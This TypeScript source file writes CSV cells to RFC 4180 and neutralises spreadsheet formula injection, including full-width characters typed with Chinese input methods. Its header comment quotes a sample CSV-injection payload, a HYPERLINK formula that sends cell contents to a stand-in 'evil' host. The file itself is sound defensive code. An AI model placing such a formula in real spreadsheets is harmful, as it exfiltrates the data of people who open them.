// CSV primitives (RFC 4180) that are also safe to open in Excel, WPS or LibreOffice: a cell
// that a spreadsheet would read as a formula is neutralised. Notice titles come from the web,
// so a title such as =HYPERLINK("http://evil/?"&A1,"点此") must stay text.

/** Excel expects a BOM to read UTF-8 (without it Chinese text opens as mojibake). */
export const CSV_BOM = '\uFEFF';
export const CSV_EOL = '\r\n';

const FORMULA_START = /^[=+\-@]/;

/**
 * Prefixes `'` to a value a spreadsheet would evaluate (OWASP "CSV injection"): one that
 * starts with = + - @ TAB or CR, also after leading whitespace (spreadsheets trim it), and
 * also in full-width or small forms (＝＋－＠, ﹦﹢﹣﹫: NFKC folds them to = + - @), which
 * Chinese input methods produce.
 */
export function formulaSafe(value: string): string {
  if (/^[\t\r]/.test(value)) return `'${value}`;
  const first = /\S/u.exec(value)?.[0];
  if (first === undefined) return value;
  return FORMULA_START.test(first.normalize('NFKC')) ? `'${value}` : value;
}

/** RFC 4180: quote a field holding a quote, comma, CR or LF; double the quotes inside. */
export function quoteCsv(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

export function csvCell(value: string | undefined): string {
  return quoteCsv(formulaSafe(value ?? ''));
}

export function csvRow(values: readonly (string | undefined)[]): string {
  return values.map(csvCell).join(',') + CSV_EOL;
}
